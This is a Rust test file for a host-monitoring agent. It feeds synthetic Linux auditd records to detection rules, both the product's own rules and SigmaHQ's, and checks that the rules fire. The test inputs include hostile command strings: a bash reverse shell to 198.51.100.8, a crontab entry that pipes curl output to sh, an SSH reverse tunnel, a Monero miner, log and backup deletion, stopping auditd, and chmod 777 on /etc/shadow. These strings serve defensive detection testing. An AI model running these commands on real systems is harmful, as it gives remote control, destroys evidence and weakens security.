//! From raw audit records to hits: the shipped rules, and those of SigmaHQ for auditd.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on should stop")]

use std::fmt::Write;
use std::path::PathBuf;
use std::sync::Arc;

use agent_inputs::{Format, Line, SourceMeta};
use agent_pipeline::{AgentFacts, Host, Pipeline, Scratch};
use rules_event::{Event, Timestamp};
use rules_matcher::RuleSet;

/// A host that knows two accounts and the process of a web server.
struct Server;
impl Host for Server {
    fn user(&self, id: u32, take: &mut dyn FnMut(&str)) {
        match id {
            0 => take("root"),
            33 => take("www-data"),
            _ => {}
        }
    }
    fn program(&self, pid: u32) -> Option<String> {
        (pid == 812).then(|| "/usr/sbin/php-fpm8.2".to_owned())
    }
}

struct Bench {
    pipeline: Pipeline,
    scratch: Scratch,
    source: Arc<SourceMeta>,
    names: Vec<(String, String)>,
    serial: u64,
}

impl Bench {
    fn new(loaded: rules_pack::Loaded) -> Self {
        let names = loaded.rules.iter().map(|rule| {
            let file = rule.file.rsplit('/').next().unwrap().trim_end_matches(".yml");
            (rule.id.clone(), file.to_owned())
        });
        let names = names.collect();
        let (set, _) = RuleSet::compile(loaded.rules);
        let agent = AgentFacts {
            agent_id: [1; 16],
            agent_id_text: "01".repeat(16),
            host: "web01".to_owned(),
            organization: None,
            system: None,
            timezone: agent_pipeline::timezone("+07:00").unwrap(),
        };
        let pipeline = Pipeline::new(agent, Some(Arc::clone(set.matcher())));
        let source = SourceMeta {
            key: "file:1:2:0:ab".to_owned(),
            path: Some("/var/log/audit/audit.log".to_owned()),
            format: Format::Auditd,
            dataset: None,
            ..SourceMeta::default()
        };
        Self {
            pipeline: pipeline.with_host(Arc::new(Server)),
            scratch: Scratch::default(),
            source: Arc::new(source),
            names,
            serial: 100,
        }
    }

    /// Shows an event to the rules; returns it and the names of those that hit.
    fn event(&mut self, text: &str) -> (Event, Vec<String>) {
        let read_at = Timestamp::from_seconds(1_700_000_000);
        let line = Line { offset: self.serial, bytes: text.as_bytes(), truncated: false };
        let done = self.pipeline.line(&self.source, read_at, line, &mut self.scratch);
        let event = done.event.clone();
        let name = |id: &str| {
            self.names
                .iter()
                .find(|(known, _)| known == id)
                .map_or(id.to_owned(), |(_, name)| name.clone())
        };
        let hits = event.rule_ids().map(name).collect();
        (event, hits)
    }

    /// A program is started; returns the rules that hit.
    fn run(&mut self, pid: u32, ppid: u32, uid: u32, exe: &str, args: &[&str]) -> Vec<String> {
        self.serial += 1;
        self.event(&exec(self.serial, pid, ppid, uid, exe, args)).1
    }

    #[track_caller]
    fn hits(&mut self, rule: &str, ppid: u32, uid: u32, exe: &str, args: &[&str]) {
        let hits = self.run(2_000, ppid, uid, exe, args);
        assert!(hits.iter().any(|hit| hit == rule), "{rule} of {hits:?} for {args:?}");
    }

    #[track_caller]
    fn quiet(&mut self, rule: &str, ppid: u32, uid: u32, exe: &str, args: &[&str]) {
        let hits = self.run(2_000, ppid, uid, exe, args);
        assert!(!hits.iter().any(|hit| hit == rule), "{rule} for {args:?}");
    }
}

/// A value as the kernel writes it: in quotes, or as hexadecimal digits when it holds a blank, a quote
/// or a byte that is not printable. Spec: Linux `kernel/audit.c`, `audit_string_contains_control`.
fn untrusted(value: &str) -> String {
    if value.bytes().any(|byte| byte == b'"' || !(0x21..=0x7e).contains(&byte)) {
        hex::encode_upper(value)
    } else {
        format!("\"{value}\"")
    }
}

/// The records of an execve, as kernel 6.1 and auditd 3.0 write them.
fn exec(serial: u64, pid: u32, ppid: u32, uid: u32, exe: &str, args: &[&str]) -> String {
    let stamp = format!("msg=audit(1700000000.123:{serial}):");
    let comm: String = exe.rsplit('/').next().unwrap().chars().take(15).collect();
    let mut text = format!(
        "type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c8 a1=55d1c9 \
         a2=55d1ca a3=8 items=2 ppid={ppid} pid={pid} auid=4294967295 uid={uid} gid={uid} euid={uid} \
         suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 \
         comm={} exe={} subj=unconfined key=\"exec\"",
        untrusted(&comm),
        untrusted(exe)
    );
    write!(text, "\ntype=EXECVE {stamp} argc={}", args.len()).unwrap();
    for (number, arg) in args.iter().enumerate() {
        write!(text, " a{number}={}", untrusted(arg)).unwrap();
    }
    write!(text, "\ntype=CWD {stamp} cwd=\"/\"").unwrap();
    for (item, name) in [exe, "/lib64/ld-linux-x86-64.so.2"].iter().enumerate() {
        write!(
            text,
            "\ntype=PATH {stamp} item={item} name={} inode=9 dev=08:01 mode=0100755 ouid=0 ogid=0 \
             rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            untrusted(name)
        )
        .unwrap();
    }
    let title: Vec<u8> = args.join("\0").into_bytes();
    let title = title.get(..title.len().min(128)).unwrap();
    write!(text, "\ntype=PROCTITLE {stamp} proctitle={}", hex::encode_upper(title)).unwrap();
    text
}

#[test]
fn attacks_in_raw_records_are_hits_of_the_shipped_rules() {
    let mut bench = Bench::new(rules_pack::load(true, &[]).unwrap());
    // What the records before say of parents.
    bench.run(500, 1, 0, "/usr/bin/bash", &["-bash"]);
    bench.run(501, 1, 0, "/usr/sbin/cron", &["/usr/sbin/cron", "-f"]);
    bench.run(502, 501, 0, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]);

    let shell = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.8/4444 0>&1"];
    bench.hits("reverse_shell", 500, 0, "/usr/bin/bash", &shell);
    bench.hits("web_server_spawns_shell", 812, 33, "/usr/bin/dash", &["sh", "-c", "whoami"]);
    bench.quiet("web_server_spawns_shell", 500, 0, "/usr/bin/dash", &["sh", "-c", "whoami"]);
    bench.hits("log_tampering_command", 500, 0, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]);
    bench.quiet("log_tampering_command", 502, 0, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]);
    let cron =
        ["sh", "-c", "(crontab -l; echo '* * * * * curl http://198.51.100.8/k|sh')|crontab -"];
    bench.hits("persistence_by_command", 500, 0, "/usr/bin/dash", &cron);
    let tunnel = ["ssh", "-N", "-R", "8080:localhost:80", "x@198.51.100.8"];
    bench.hits("tunnel_tool", 500, 0, "/usr/bin/ssh", &tunnel);
    let miner = ["/tmp/.x/k", "-o", "stratum+tcp://pool.minexmr.com:4444"];
    bench.hits("cryptominer_started", 500, 33, "/tmp/.x/k", &miner);
    bench.hits("linux_backups_deleted", 500, 0, "/usr/bin/rm", &["rm", "-rf", "/srv/backup/daily"]);
    let stop = ["systemctl", "stop", "auditd"];
    bench.hits("security_service_stopped_command", 500, 0, "/usr/bin/systemctl", &stop);
    bench.hits(
        "security_service_stopped_command",
        500,
        0,
        "/usr/sbin/auditctl",
        &["auditctl", "-e", "0"],
    );
    let dump = ["mysqldump", "--all-databases"];
    bench.hits("database_dumped_by_hand", 500, 0, "/usr/bin/mysqldump", &dump);
    bench.quiet("database_dumped_by_hand", 501, 0, "/usr/bin/mysqldump", &dump);
    assert_eq!(bench.run(2_001, 500, 0, "/usr/bin/ls", &["ls", "-l"]), [""; 0]);
}

#[test]
fn a_web_shell_says_who_and_from_where() {
    let mut bench = Bench::new(rules_pack::load(true, &[]).unwrap());
    let (event, hits) =
        bench.event(&exec(7, 2_000, 812, 33, "/usr/bin/dash", &["sh", "-c", "id; uname -a"]));
    assert_eq!(hits, ["web_server_spawns_shell"]);
    for (name, value) in [
        ("user.name", "www-data"),
        ("process.executable", "/usr/bin/dash"),
        ("process.command_line", "sh -c id; uname -a"),
        ("process.parent.executable", "/usr/sbin/php-fpm8.2"),
        ("process.working_directory", "/"),
        ("auditd.SYSCALL", "execve"),
        ("auditd.key", "exec"),
        ("event.action", "executed"),
        ("event.category", "process"),
        ("event.type", "start"),
        ("event.outcome", "success"),
    ] {
        assert_eq!(event.get_str(name), Some(value), "{name}");
    }
}

/// The rules of SigmaHQ for auditd, if they are here.
fn sigma_hq() -> Option<rules_pack::Loaded> {
    let folder = std::env::var_os("VONGLAU_TEST_DATA").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"),
        PathBuf::from,
    );
    let folder = folder.join("sigma_rules/rules/linux/auditd");
    if !folder.is_dir() {
        eprintln!("skipped: {} is not here; set VONGLAU_TEST_DATA", folder.display());
        return None;
    }
    Some(rules_pack::load(false, &[folder]).unwrap())
}

#[test]
fn rules_of_sigmahq_hit_raw_records() {
    let Some(loaded) = sigma_hq() else { return };
    let mut bench = Bench::new(loaded);
    let stamp = "msg=audit(1700000000.123:9):";
    let call = |name: &str, exe: &str, key: &str, a0: &str| {
        let number = match name {
            "execve" => 59,
            "openat" => 257,
            "syslog" => 103,
            "mknod" => 133,
            "connect" => 42,
            "sysinfo" => 99,
            other => panic!("{other}"),
        };
        let comm = exe.rsplit('/').next().unwrap();
        format!(
            "type=SYSCALL {stamp} arch=c000003e syscall={number} success=yes exit=0 a0={a0} a1=0 a2=241 \
             a3=0 items=1 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 \
             fsgid=0 tty=pts0 ses=1 comm=\"{comm}\" exe=\"{exe}\" key={key}"
        )
    };
    let path = |name: &str, nametype: &str| {
        let open = call("openat", "/usr/bin/vim", "(null)", "ffffff9c");
        format!(
            "{open}\ntype=CWD {stamp} cwd=\"/root\"\ntype=PATH {stamp} item=0 name=\"{name}\" inode=1 \
             dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype={nametype}"
        )
    };
    let run = |exe: &str, args: &[&str]| exec(9, 2, 1, 33, exe, args);
    let message = |kind: &str, rest: &str| {
        format!(
            "type={kind} {stamp} pid=1 uid=0 auid=4294967295 ses=4294967295 msg='{rest} res=success'"
        )
    };
    let cases = [
        ("lnx_auditd_create_account", run("/usr/sbin/useradd", &["useradd", "x"])),
        (
            "lnx_auditd_create_account",
            message("ADD_USER", "op=add-user id=1001 exe=\"/usr/sbin/useradd\""),
        ),
        (
            "lnx_auditd_clean_disable_dmesg_logs_via_syslog",
            call("syslog", "/usr/bin/dmesg", "(null)", "5"),
        ),
        (
            "lnx_auditd_susp_discovery_sysinfo_syscall",
            call("sysinfo", "/usr/bin/free", "(null)", "7f"),
        ),
        (
            "lnx_auditd_susp_special_file_creation_via_mknod_syscall",
            call("mknod", "/usr/bin/mknod", "(null)", "7f"),
        ),
        (
            "lnx_auditd_network_service_scanning",
            call("connect", "/usr/bin/nmap", "\"network_connect_4\"", "3"),
        ),
        ("lnx_auditd_susp_c2_commands", call("execve", "/usr/bin/nc", "\"susp_activity\"", "3")),
        ("lnx_auditd_susp_exe_folders", run("/tmp/k", &["/tmp/k"])),
        ("lnx_auditd_web_rce", run("/usr/bin/id", &["id"])),
        (
            "lnx_auditd_load_module_insmod",
            call("execve", "/usr/bin/kmod", "(null)", "3")
                .replace("comm=\"kmod\"", "comm=\"insmod\""),
        ),
        ("lnx_auditd_ld_so_preload_mod", path("/etc/ld.so.preload", "CREATE")),
        ("lnx_auditd_systemd_service_creation", path("/etc/systemd/system/x.service", "CREATE")),
        ("lnx_auditd_unix_shell_configuration_modification", path("/root/.bashrc", "NORMAL")),
        ("lnx_auditd_auditing_config_change", path("/etc/audit/auditd.conf", "NORMAL")),
        ("lnx_auditd_hidden_binary_execution", path("/tmp/.x", "NORMAL")),
        (
            "lnx_auditd_disable_system_firewall",
            message(
                "SERVICE_STOP",
                "unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\"",
            ),
        ),
        (
            "lnx_auditd_data_compressed",
            run("/usr/bin/tar", &["tar", "-czf", "/tmp/a b.tgz", "/etc"]),
        ),
        ("lnx_auditd_user_discovery", run("/usr/bin/whoami", &["whoami"])),
        ("lnx_auditd_susp_histfile_operations", run("/usr/bin/rm", &["rm", "/root/.bash_history"])),
        (
            "lnx_auditd_chattr_immutable_removal",
            run("/usr/bin/chattr", &["chattr", "-i", "/etc/passwd"]),
        ),
        ("lnx_auditd_system_info_discovery", run("/usr/bin/uname", &["uname", "-a"])),
        ("lnx_auditd_masquerading_crond", run("/usr/bin/cp", &["cp", "/bin/sh", "/tmp/crond"])),
        ("lnx_auditd_susp_cmds", run("/usr/bin/chmod", &["chmod", "777", "/etc/shadow"])),
    ];
    let mut missed = Vec::new();
    for (file, text) in &cases {
        assert!(bench.names.iter().any(|(_, name)| name == file), "{file} is one of SigmaHQ's");
        let (_, hits) = bench.event(text);
        if !hits.iter().any(|hit| hit == file) {
            missed.push((file, hits));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    eprintln!("{} cases", cases.len());
}
